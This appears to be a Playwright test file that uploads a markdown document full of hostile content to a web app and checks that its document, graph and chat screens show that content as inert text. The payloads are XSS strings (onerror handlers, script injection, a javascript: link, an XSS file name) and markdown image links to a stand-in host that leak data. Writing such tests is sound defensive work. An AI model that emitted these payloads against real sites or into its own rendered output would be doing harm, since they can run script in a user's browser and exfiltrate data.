"""Documents that try to run scripts, fetch pictures or format the page."""

from __future__ import annotations

from browser.screens import ask, cells, go, settle, upload
from playwright.sync_api import expect

NAME = "<img src=x onerror=alert(1)>.md"
TEXT = b"""Crew list of Mara Quill: the stoker is called <img src=x onerror="alert('ferry')"> and the cook is
called </script><script>document.title='owned'</script>. The mate is "O'Neil & Sons" of Port Ansel.
Logo: ![x](https://example.invalid/leak?q=secret) and [click](javascript:alert(1)).
Mara Quill paid $3.20 to Tobias Renn and $4.10 to Hallam & Sons <Shipwrights> in Port Ansel. :red[Mara Quill]

```mermaid
graph TD
  A@{ img: "https://example.invalid/leak.png", label: "x" }
```
"""


def test_hostile_documents_stay_text_on_every_screen(start_app, visit, tmp_path):
    watched = visit(start_app(tmp_path / "data"))
    page = watched.page
    go(page, "Documents")
    upload(page, {NAME: ("text/markdown", TEXT)})
    expect(cells(page, NAME)).to_have_count(1)
    box = page.get_by_test_id("stDataFrame").bounding_box()
    page.mouse.click(box["x"] + 18, box["y"] + 35 + 18)
    settle(page)
    expect(page.get_by_role("heading", name=NAME)).to_be_visible()
    expect(page.locator(".passage").first).to_contain_text("![x](https://example.invalid/leak?q=secret)")
    expect(page.locator(".passage").first).to_contain_text("</script><script>document.title='owned'</script>")

    go(page, "Graph")
    drawing = page.locator(".graph")
    expect(drawing.locator("canvas")).to_be_visible()
    nodes = drawing.evaluate("host => host.network.body.data.nodes.get()")
    for node in nodes:
        drawing.evaluate(
            "(host, id) => host.network.interactionHandler._checkShowPopup({x: 1, y: 1})", node["id"]
        )
    page.goto(page.url.split("?")[0] + f"?entity={nodes[0]['id']}")
    settle(page)

    go(page, "Chat")
    ask(page, "What is the logo, and what did Mara Quill pay? ![x](https://example.invalid/asked)")
    answer = page.get_by_test_id("stChatMessage").nth(1)
    expect(answer).not_to_be_empty()
    expect(answer.locator("img, script, .katex, svg[id^=mermaid]")).to_have_count(0)
    assert "owned" not in page.title()
    watched.assert_clean()
